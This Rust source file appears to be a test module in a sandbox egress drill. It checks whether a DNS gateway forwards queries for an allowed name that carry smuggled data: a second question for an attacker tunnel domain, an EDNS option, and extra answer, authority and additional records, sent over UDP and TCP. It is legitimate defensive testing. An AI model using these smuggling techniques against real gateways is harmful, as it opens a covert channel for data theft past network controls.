//! Smuggling through the DNS gateway: queries for an allowed name that carry more — a second
//! question for the attacker's domain, an EDNS option, records in the answer, authority and
//! additional sections (over UDP and TCP). A gateway that forwards the packet as it came
//! hands all of it to the upstream resolver, a channel out of the job that no record shows.
//!
//! Success = the world's resolver received anything beyond one bare question (it tags such a
//! query in its records); from inside, an answer to the smuggled question. Harmless: the
//! payload is a fixed string, the resolver is the drill's own.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpStream, UdpSocket};

use hickory_proto::op::{Edns, Message, Query};
use hickory_proto::rr::rdata::opt::EdnsOption;
use hickory_proto::rr::rdata::{A, TXT};
use hickory_proto::rr::{Name, RData, Record, RecordType};

use super::sibling_job::own_gateway;
use super::util::{Step, NET_TIMEOUT};
use super::{detector, Attack, AttackResult, Category, Expect};
use crate::addrs::{ALLOWED_NAME, ATTACKER, TUNNEL_SUFFIX};

/// `dns-smuggle`: extra questions, EDNS options and records in queries for the allowed name.
pub struct DnsSmuggle;

const LOOT: &str = "ghs-drilldrilldrill";

fn name(n: &str) -> Result<Name, String> {
    Name::from_ascii(n).map_err(|e| e.to_string())
}

/// A query for the allowed name, then `add` puts something more in it.
fn query(add: impl FnOnce(&mut Message) -> Result<(), String>) -> Result<Vec<u8>, String> {
    let mut m = Message::new();
    m.set_id(0x5151).set_recursion_desired(true);
    m.add_query(Query::query(
        name(&format!("{ALLOWED_NAME}."))?,
        RecordType::A,
    ));
    add(&mut m)?;
    m.to_vec().map_err(|e| e.to_string())
}

/// What came back: `Ok` if the answer holds the attacker's address (the smuggled question was
/// answered), else `Err` with the response code.
fn judge(resp: Result<Vec<u8>, String>) -> Result<String, String> {
    let m = Message::from_vec(&resp?).map_err(|e| format!("unparsable answer: {e}"))?;
    let to_attacker = m
        .answers()
        .iter()
        .any(|r| matches!(r.data(), RData::A(a) if a.0 == ATTACKER));
    if to_attacker {
        Ok("the smuggled question was answered".into())
    } else {
        Err(format!(
            "{} ({} answers; the world's records decide)",
            m.response_code(),
            m.answers().len()
        ))
    }
}

fn udp(gw: Ipv4Addr, q: &[u8]) -> Result<Vec<u8>, String> {
    let s = UdpSocket::bind("0.0.0.0:0").map_err(|e| e.to_string())?;
    let _ = s.set_read_timeout(Some(NET_TIMEOUT));
    s.send_to(q, (gw, 53)).map_err(|e| e.to_string())?;
    let mut buf = [0u8; 4096];
    let n = s.recv(&mut buf).map_err(|e| format!("no answer: {e}"))?;
    Ok(buf[..n].to_vec())
}

fn tcp(gw: Ipv4Addr, q: &[u8]) -> Result<Vec<u8>, String> {
    let mut s =
        TcpStream::connect_timeout(&(gw, 53).into(), NET_TIMEOUT).map_err(|e| e.to_string())?;
    let _ = s.set_read_timeout(Some(NET_TIMEOUT));
    let l = u16::try_from(q.len()).map_err(|e| e.to_string())?;
    s.write_all(&l.to_be_bytes())
        .and_then(|_| s.write_all(q))
        .map_err(|e| e.to_string())?;
    let mut len = [0u8; 2];
    s.read_exact(&mut len)
        .map_err(|e| format!("no answer: {e}"))?;
    let mut buf = vec![0u8; usize::from(u16::from_be_bytes(len))];
    s.read_exact(&mut buf).map_err(|e| e.to_string())?;
    Ok(buf)
}

impl Attack for DnsSmuggle {
    fn id(&self) -> &'static str {
        "dns-smuggle"
    }
    fn title(&self) -> &'static str {
        "DNS smuggling: extra question, EDNS option, records in a query for an allowed name"
    }
    fn category(&self) -> Category {
        Category::Network
    }
    fn expect(&self) -> Expect {
        Expect::BlockedAndDetected(detector::DENIED_EGRESS)
    }
    fn run(&self) -> AttackResult {
        let Some(gw) = own_gateway() else {
            return AttackResult::from_steps(
                self.id(),
                &[Step::failed("find the resolver", "no gateway address")],
            );
        };
        let smuggled = format!("{LOOT}.{TUNNEL_SUFFIX}.");
        let rr = |n: &str| -> Result<Record, String> {
            Ok(Record::from_rdata(name(n)?, 60, RData::A(A(ATTACKER))))
        };
        let second = query(|m| {
            m.add_query(Query::query(name(&smuggled)?, RecordType::A));
            Ok(())
        });
        let edns = query(|m| {
            let mut e = Edns::new();
            e.options_mut()
                .insert(EdnsOption::Unknown(65001, LOOT.as_bytes().to_vec()));
            m.set_edns(e);
            Ok(())
        });
        let additional = query(|m| {
            m.add_additional(rr(&smuggled)?);
            Ok(())
        });
        let authority = query(|m| {
            m.add_name_server(Record::from_rdata(
                name(&smuggled)?,
                60,
                RData::TXT(TXT::new(vec![LOOT.to_owned()])),
            ));
            Ok(())
        });
        let answer = query(|m| {
            m.add_answer(rr(&smuggled)?);
            Ok(())
        });
        let s = vec![
            Step::from(
                "2nd question (UDP)",
                judge(second.clone().and_then(|q| udp(gw, &q))),
            ),
            Step::from(
                "2nd question (TCP)",
                judge(second.and_then(|q| tcp(gw, &q))),
            ),
            Step::from("EDNS option", judge(edns.and_then(|q| udp(gw, &q)))),
            Step::from(
                "additional record",
                judge(additional.and_then(|q| udp(gw, &q))),
            ),
            Step::from(
                "authority record",
                judge(authority.and_then(|q| udp(gw, &q))),
            ),
            Step::from("answer record", judge(answer.and_then(|q| udp(gw, &q)))),
        ];
        AttackResult::from_steps(self.id(), &s)
    }
}
